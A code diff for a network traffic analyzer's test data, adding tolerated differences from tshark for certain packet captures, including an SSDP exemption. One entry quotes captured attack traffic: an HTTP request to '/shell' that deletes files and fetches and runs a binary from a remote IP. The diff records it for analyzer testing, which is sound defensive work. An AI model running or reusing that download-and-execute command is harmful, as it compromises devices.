@@ -11,7 +11,27 @@ export interface AcceptedAnalyzerDifference {
 }
 
 /** Items in tshark's truth that our logs may lack, per capture path relative to the public folder. */
-export const acceptedAnalyzerDifferences: Record<string, AcceptedAnalyzerDifference[]> = {};
+export const acceptedAnalyzerDifferences: Record<string, AcceptedAnalyzerDifference[]> = {
+  'suricata-verify/bug-5437-01__input.pcap': [
+    {
+      item: 'http frame 1: GET 127.0.0.1 /shell?cd+/tmp;rm+-rf+*;wget+',
+      reason:
+        'Malformed request line: the target holds a space ("wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm"). tshark ends ' +
+        'the URI at the first space; Tideline keeps the target up to " HTTP/1.1", so its uri is longer.',
+    },
+    { item: 'http frame 2: GET 127.0.0.1 /shell?cd+/tmp;rm+-rf+*;wget+', reason: 'The same request sent to a second address.' },
+  ],
+};
+
+/** Items accepted in any capture, matched by pattern. */
+export const acceptedInEveryCapture: { pattern: RegExp; reason: string }[] = [
+  {
+    pattern: /^http frame \d+: (M-SEARCH|NOTIFY) /,
+    reason:
+      "SSDP (UPnP discovery) is HTTP-formatted text over UDP multicast. tshark's HTTP dissector shows it; Zeek's http.log " +
+      'and ours cover HTTP over TCP only.',
+  },
+];
 
 /** Rows of a Zeek baseline log, by log file name, that may differ from ours (extra: ours only; missing: Zeek's only). */
 export const acceptedBaselineDifferences: Record<string, (AcceptedAnalyzerDifference & { side: 'extra' | 'missing' })[]> = {
